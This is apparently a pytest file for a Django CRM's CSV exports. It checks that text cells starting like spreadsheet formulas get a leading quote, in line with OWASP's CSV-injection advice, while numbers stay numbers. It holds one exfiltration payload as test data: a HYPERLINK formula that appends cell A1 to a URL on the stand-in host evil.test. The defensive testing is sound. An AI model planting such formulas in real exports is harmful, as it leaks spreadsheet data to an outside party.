"""Formula injection (OWASP "CSV Injection"): every export writes a text cell that a
spreadsheet would read as a formula with a single quote in front; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from dealroom.core.spreadsheet import safe_cell
from dealroom.customers import services
from tests.customers.conftest import cx  # noqa: F401  (the fixture `pp` builds on)
from tests.pipeline.conftest import pp  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Acme", "a=b", " =1", "'=1", "王小明", "1-2"])
def test_other_text_is_left_alone(text):
    # OWASP looks at the first character only (" =1" is text in every spreadsheet)
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 12, -2.5, Decimal("-1234.50")])
def test_numbers_are_written_as_numbers(number):
    assert safe_cell(number) == number


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


NAME_FIELD = {"account": "name", "contact": "full_name", "lead": "full_name", "opportunity": "name"}


@pytest.mark.parametrize("object_type", ["account", "contact", "lead", "opportunity"])
def test_every_export_neutralises_formulas(pp, login, object_type):  # noqa: F811
    admin = pp.admin
    note = services.custom_field_create(
        actor=admin, object_type=object_type, label="@note", kind="text", key="note"
    )
    score = services.custom_field_create(
        actor=admin, object_type=object_type, label="Score", kind="number", key="score"
    )
    data = {
        NAME_FIELD[object_type]: FORMULA,
        f"custom.{note.key}": "-5",  # text: quoted
        f"custom.{score.key}": "-5",  # a number: stays -5
    }
    if object_type == "opportunity":
        pp.deal(admin, **pp.ready(amount="-12.5"), **data)
    else:
        services.record_create(actor=admin, object_type=object_type, data=data)

    url = reverse(f"{object_type}_export", args=["alpha"])
    header, row = _rows(login(pp.world.user("alpha", "admin")).get(url))[:2]
    cell = dict(zip(header, row, strict=True))
    assert "'@note" in header and "@note" not in header  # labels are typed by people too
    name_label = next(h for h in header if h.endswith("name"))
    assert cell[name_label] == "'" + FORMULA
    assert cell["'@note"] == "'-5"
    assert cell["Score"] == "-5"
    if object_type == "opportunity":
        assert cell["amount"] == "-12.50"
